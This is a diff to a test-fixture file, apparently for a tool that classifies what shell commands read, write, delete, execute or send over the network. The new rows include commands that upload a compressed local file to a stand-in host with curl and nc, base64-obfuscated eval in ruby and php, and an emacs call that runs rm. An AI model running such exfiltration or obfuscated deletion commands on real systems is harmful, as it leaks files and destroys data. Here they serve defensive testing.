@@ -2,6 +2,46 @@ import { type FactRows, testRows } from "./test-rows.js";
 
 /** More of what programs do, beside the examples of their rows. */
 const ROWS: FactRows = {
+  "what is compressed on the way": [
+    {
+      run: "gzip -k k; curl -T k.gz h.example",
+      reads: ["./k", "./k.gz"],
+      writes: ["./k.gz"],
+      network: ["both http://h.example < ./k.gz < ./k"],
+    },
+    {
+      run: "gzip -c k > x; nc h.example 9 < x",
+      reads: ["./k", "./x"],
+      writes: ["./x"],
+      network: ["both tcp://h.example < ./k"],
+    },
+  ],
+  "code, and files of commands": [
+    {
+      run: "emacs --batch --eval '(shell-command \"rm y\")'",
+      deletes: ["./y"],
+      executes: ["inline elisp"],
+      unknown: ["opaque-code"],
+    },
+    {
+      run: "ruby -e 'eval Base64.decode64(\"cm0=\")'",
+      executes: ["inline ruby", "decoded ruby"],
+      unknown: ["opaque-code"],
+    },
+    {
+      run: "php -r 'eval(base64_decode(\"cm0=\"));'",
+      executes: ["inline php", "decoded php"],
+      unknown: ["opaque-code"],
+    },
+    { run: "ruby -e 'puts \"rm -rf a\"'", executes: ["inline ruby"], unknown: ["opaque-code"] },
+    {
+      run: "sftp -b x.batch h.example",
+      reads: ["./x.batch"],
+      executes: ["file sftp"],
+      network: ["both tcp://h.example"],
+      unknown: ["opaque-file", "opaque-file"],
+    },
+  ],
   cluster: [{ run: "kubectl get pods -n kube-system -o wide" }],
   container: [{ run: "docker ps -a --format '{{.Names}}'" }, { run: "docker-compose logs -f web" }],
   forge: [{ run: "gh pr list --state open" }],
